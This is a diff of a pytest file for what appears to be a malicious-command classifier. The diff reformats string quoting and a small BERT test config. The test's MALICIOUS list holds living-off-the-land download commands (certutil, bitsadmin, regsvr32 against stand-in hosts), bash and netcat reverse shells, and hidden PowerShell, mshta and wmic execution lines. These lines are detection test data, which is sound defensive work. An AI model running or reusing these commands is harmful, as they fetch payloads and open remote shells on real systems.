@@ -17,14 +17,14 @@ REPO = Path(__file__).resolve().parents[1]
 MALICIOUS = [
     "certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe",
     "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
-    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\";alert(1)",
+    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";alert(1)',
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
-    "mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"calc\"\"\")",
+    'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc""")',
     "nc -e /bin/sh 10.0.0.2 9001",
     "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
     "bitsadmin /transfer job /download /priority high http://x.example/p.exe c:\\p.exe",
-    "wmic process call create \"cmd /c whoami > c:\\out.txt\"",
+    'wmic process call create "cmd /c whoami > c:\\out.txt"',
 ]
 BENIGN = [
     "ls -la /home/user",
@@ -70,7 +70,11 @@ def tiny_bert(tmp_path_factory: pytest.TempPathFactory) -> Path:
     out = tmp_path_factory.mktemp("tiny_bert")
     torch.manual_seed(0)
     cfg = BertConfig(
-        vocab_size=30522, hidden_size=32, num_hidden_layers=1, num_attention_heads=2, intermediate_size=64,
+        vocab_size=30522,
+        hidden_size=32,
+        num_hidden_layers=1,
+        num_attention_heads=2,
+        intermediate_size=64,
         max_position_embeddings=128,
     )
     BertModel(cfg).save_pretrained(out)
